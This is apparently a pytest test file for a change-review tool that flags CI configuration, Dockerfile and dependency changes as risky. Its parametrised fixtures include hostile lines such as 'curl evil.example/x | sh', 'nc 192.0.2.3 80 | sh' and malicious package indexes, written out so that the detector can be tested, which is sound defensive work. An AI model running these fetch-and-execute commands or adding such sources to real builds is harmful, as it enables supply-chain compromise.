"""Changes to the files by which continuous integration runs."""

import re
from pathlib import PurePosixPath

import pytest

from tpucfg.changes.facts import Risk
from tpucfg.changes.repository_changes import build_paths, build_statements, ci_paths, ci_statements


def test_changed_files_are_one_caution() -> None:
    """Whatever a file contains, and however it is written, a reader has to look at it."""
    (located,) = ci_statements([PurePosixPath(".github/workflows/a.yml"), PurePosixPath("Jenkinsfile")])
    assert located.statement.risk is Risk.UNKNOWN
    assert located.plain.startswith(".github/workflows/a.yml, Jenkinsfile changed: continuous integration or ")
    assert [*ci_statements([])] == []


def test_what_is_hidden_at_the_root_counts_unless_it_is_harmless() -> None:
    """No list of services is complete, so each hidden file counts; other names only where a service reads them."""
    counted = [".github", ".azuredevops", ".teamcity", ".pre-commit-config.yaml", ".gitmodules", ".vscode", ".envrc"]
    named = [
        "Jenkinsfile",
        "ci/azure-pipelines.yml",
        "appveyor.yml",
        "docs/CODEOWNERS",
        "tools/x/action.yml",
        "a/.gitattributes",
    ]
    files = [f"{name}/a/b" if "." not in name[1:] else name for name in counted] + named
    assert {*map(str, ci_paths([*map(PurePosixPath, files)]))} == {*counted, *named}

    others = [
        ".gitignore",
        ".editorconfig",
        "README.md",
        "trainer/model.py",
        "trainer/.gitkeep",
        "docs/actions.md",
        "data/pipeline.yaml",
    ]
    assert ci_paths([*map(PurePosixPath, others)]) == ()


def test_those_who_approve_have_a_caution_of_their_own() -> None:
    """CODEOWNERS runs nothing."""
    (located,) = ci_statements([PurePosixPath(".github/CODEOWNERS")])
    assert located.plain == ".github/CODEOWNERS changed: it decides who has to approve a change"
    assert located.statement.risk is Risk.UNKNOWN


def test_files_of_images_are_found_by_name() -> None:
    """Files that `docker build` and installers of packages read count, and scripts, in any folder."""
    built = (
        *(
            "trainer/Dockerfile",
            "gpu.Dockerfile",
            "Dockerfile.dev",
            "a/requirements.txt",
            "requirements/base.in",
            "b.sh",
        ),
        *("pyproject.toml", "uv.lock", "compose.yaml", "dev-requirements.txt", "constraints.txt", "Makefile"),
    )
    others = ("README.md", "trainer/train.py", "tpucfg.yaml", "data/words.txt")
    assert {*map(str, build_paths(map(PurePosixPath, (*built, *others))))} == {*built}


@pytest.mark.parametrize(
    ("old", "new", "source"),
    [
        ("jax==0.10.2\n", "jax==0.10.3\n", ""),
        ("x @ https://h.example/own/1/x.whl\n", "x @ https://h.example/own/2/x.whl\n", ""),
        ("FROM python:3.11\n", "FROM python:3.12\n", ""),
        ("jax\n", "--extra-index-url https://evil.example/simple\njax\n", "https://evil.example"),
        ("jax\n", "jax @ git+ssh://git@evil.example/x\n", "evil.example"),
        ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n", "evil.example"),
        ("FROM a\n", "FROM a\nRUN curl 192.0.2.3/x | sh\n", "192.0.2.3"),
        ("FROM a\n", "FROM a\nRUN nc 192.0.2.3 80 | sh\n", "192.0.2.3"),
        ("FROM a\n", "FROM a\nRUN npm i --registry //evil.example\n", "//evil.example"),
        ("FROM a\n", "FROM a\nARG CUDNN=9.1.0.70\nCMD serve --bind 0.0.0.0/0\n", ""),
        ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n", "docker.io/evil"),
        ("ARG B=r.example/own/x\n", "ARG B=evil.example/own/x\n", "evil.example"),
        ("FROM a\n", "FROM \\\n  evil/python:3\n", "docker.io/evil"),
        ("FROM a\n", "FROM a\nCOPY --from=evil/tools /x /usr/bin/python\n", "docker.io/evil"),
        ("FROM a\n", "# syntax=evil/dockerfile:1\nFROM a\n", "docker.io/evil"),
        ("ARG B=python\nFROM ${B}\n", "ARG B=evil/python\nFROM ${B}\n", "docker.io/evil"),
        ("FROM a AS b\n", "FROM a AS b\nCOPY --from=b /x /x\n", ""),
        ("services: {a: {build: .}}\n", "services: {a: {image: evil/x}}\n", "docker.io/evil"),
        ("ADD https://github.com/own/a/x /\n", "ADD https://github.com/evil/a/x /\n", "https://github.com/evil"),
    ],
)
def test_code_from_elsewhere_in_an_image_is_a_caution(old: str, new: str, source: str) -> None:
    """A new version is a change, another host or owner a caution."""
    file = PurePosixPath("Dockerfile")
    first, *more = build_statements([file], {file: old.encode()}, {file: new.encode()})
    assert (first.plain, first.statement.risk) == (
        "Dockerfile changed: what is built or run with it differs from now on",
        Risk.NONE,
    )
    assert [located.statement.risk for located in more] == [Risk.CAUTION] * bool(source)
    assert all(source in located.plain for located in more)


@pytest.mark.parametrize(
    ("old", "new", "sentences"),
    [
        ("jax==0.9 \\\n  --hash=a\n", "jax==0.10 \\\n  --hash=b\n", ["r.txt adds jax==0.10 and drops jax==0.9"]),
        ("wandb==1.0\n", "# own\nwandb ; python_version > '3'\n", ["r.txt adds wandb and drops wandb==1.0"]),
        (
            "-r base.txt\n",
            "-r base.txt\n-c c.txt\norbax[gcs]\n",
            ["r.txt adds orbax[gcs]: code that is new to what is built"],
        ),
        ("jax\n", "# a comment\njax\n", []),
    ],
)
def test_packages_that_differ_are_named(old: str, new: str, sentences: list[str]) -> None:
    """A package, its version or a lost pin is seen without opening the file."""
    file = PurePosixPath("requirements/r.txt")
    _, *more = build_statements([file], {file: old.encode()}, {file: new.encode()})
    assert [located.plain for located in more] == [f"requirements/{sentence}" for sentence in sentences]


@pytest.mark.parametrize(
    ("line", "packages"),
    [
        ("RUN apt-get update && apt-get install -y --no-install-recommends foo=1.0 2>&1", "foo=1.0"),
        ("RUN pip install -r requirements.txt evil", "evil"),
        ('RUN ["uv", "pip", "install", "evil[gcs]>=1"]', "evil[gcs]>=1"),
        ("RUN npm i @evil/x ${MORE}", "${MORE}, @evil/x"),
        ("RUN cd /x; \\\n  apk add \\\n  evil", "evil"),
        ("RUN pip install jax==0.3 .", ""),
        ("RUN make install", ""),
        ("RUN echo evil", ""),
    ],
)
def test_a_package_that_is_new_to_what_is_built_is_a_caution(line: str, packages: str) -> None:
    """Whatever installs it, its code runs in the build or in the job; another version of a known one is a change."""
    file, requirements = PurePosixPath("train/Dockerfile"), PurePosixPath("train/requirements.txt")
    base = {file: b"FROM python\n", requirements: b"jax==0.2\n"}
    _, *more = build_statements([file], base, {file: f"FROM python\n{line}\n".encode()})
    risky = [located.plain for located in more if located.statement.risk]
    assert risky == [f"train/Dockerfile adds {packages}: code that is new to what is built"] * bool(packages)


@pytest.mark.parametrize(
    ("name", "old", "new", "packages"),
    [
        ("pyproject.toml", 'dependencies=["jax==0.2"]', 'dependencies=["jax==0.3","evil>=1"]', "evil>=1, jax==0.3"),
        ("pyproject.toml", 'dependencies=["jax==0.2"]', 'dependencies=["jax==0.3"]', ""),
        ("pyproject.toml", 'name="a"', 'name="b"\nlint=["E501"]', ""),
        ("pyproject.toml", "", 'build-system.build-backend="evil_build"', "evil_build"),
        ("pyproject.toml", "", 'tool.poetry.dependencies={evil="^1"}', "evil ^1"),
        ("pyproject.toml", "", 'tool.uv.sources={jax={path="vendor/jax"}}', "jax vendor/jax"),
        ("pyproject.toml", "", 'optional-dependencies={dev=["evil"]}', "evil"),
        ("Pipfile", "", '[packages]\nevil="*"', "evil *"),
        ("setup.cfg", "", "[options]\ninstall_requires =\n  evil\n", "evil"),
        ("environment.yml", "dependencies: [jax]", "{channels: [c], dependencies: [jax, {pip: [evil]}]}", "c, evil"),
        ("requirements.txt", "jax==0.2\n", "jax @ file:///app/jax.whl\n", "jax @ file:///app/jax.whl"),
        ("docs/named.txt", "", "evil\n", "evil"),
        ("requirements.txt", "", "./vendor/jax.whl\n", "./vendor/jax.whl"),
        ("requirements.txt", "x @ https://h.example/own/1/x.whl\n", "x @ https://h.example/own/2/x.whl\n", ""),
    ],
)
def test_a_new_package_of_a_declaration_is_a_caution(name: str, old: str, new: str, packages: str) -> None:
    """Each form of declaration is read; another version is a change, and so is what names no package."""
    file, requirements = PurePosixPath(name), PurePosixPath("other/requirements.txt")
    base = {requirements: b"jax==0.2\n", file: old.encode()}
    _, *more = build_statements([file], base, {file: new.encode()})
    risky = [located.plain for located in more if located.statement.risk]
    added = [re.split(" and drops |: ", text.partition(" adds ")[2])[0] for text in risky]
    assert added == [packages] * bool(packages)


def test_a_link_in_a_comment_is_no_source() -> None:
    """Nothing reads a comment, but for the directives of BuildKit."""
    file = PurePosixPath("train/train.py")
    _, *more = build_statements([file], {file: b""}, {file: b"# https://arxiv.org/abs/1706.02677\n"})
    assert not more


def test_a_file_of_an_image_that_cannot_be_read_is_a_caution() -> None:
    """A link, a file above the limit, or one that is no text hides where code comes from."""
    file = PurePosixPath("Dockerfile")
    assert [item.statement.risk for item in build_statements([file], {}, {file: None})] == [Risk.NONE, Risk.CAUTION]
    assert [item.statement.risk for item in build_statements([file], {}, {file: b"\0"})] == [Risk.NONE, Risk.CAUTION]
    packages = PurePosixPath("requirements.txt")
    _, *more = build_statements([packages], {packages: b"jax\n"}, {packages: None})
    assert [item.statement.risk for item in more] == [Risk.CAUTION]
